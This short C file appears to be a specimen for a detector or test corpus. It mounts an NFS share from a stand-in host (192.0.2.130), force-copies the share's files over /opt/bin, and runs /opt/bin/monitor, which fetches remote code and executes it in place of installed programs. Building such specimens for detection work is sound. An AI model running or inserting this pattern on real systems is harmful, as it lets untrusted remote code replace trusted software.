/* SPDX-License-Identifier: GPL-2.0-or-later */
/* fw.code-overwrite: interface up, mount, forced copy over the programs, run. */
#include "specimen.h"

static __attribute__((noinline)) int take(void)
{
	char line[128];
	system("ifconfig eth0 up");
	snprintf(line, sizeof(line), "mount -o nolock -t nfs %d.%d.%d.%d:%s /mnt", 192, 0, 2, 130, "/pm");
	if (system(line) != 0)
		return -1;
	system("cp -rf /mnt/* /opt/bin");
	system("umount /mnt");
	return system("/opt/bin/monitor &");
}

int main(int argc, char **argv)
{
	(void)argv;
	return argc > 1 ? take() : 0;
}
